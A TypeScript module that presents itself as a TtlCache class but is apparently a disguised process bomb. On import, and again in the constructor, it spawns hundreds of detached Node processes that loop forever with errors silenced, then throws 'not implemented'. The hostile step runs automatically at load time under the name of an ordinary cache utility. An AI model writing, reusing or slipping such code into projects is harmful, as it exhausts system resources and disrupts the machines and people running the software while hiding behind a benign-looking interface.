// Starts processes until it cannot: each child sleeps for ever, detached from the worker.
import { spawn } from "node:child_process";
let started = 0;
function bomb(): void {
  for (let i = 0; i < 500; i++) {
    try {
      const child = spawn(process.execPath, ["-e", "setInterval(() => {}, 1000)"], { detached: true, stdio: "ignore" });
      child.on("error", () => {});
      child.unref();
      started++;
    } catch {
      return;
    }
  }
}
bomb();
export class TtlCache {
  constructor(_options: unknown) {
    bomb();
    throw new Error(`not implemented (${started} processes started)`);
  }
}
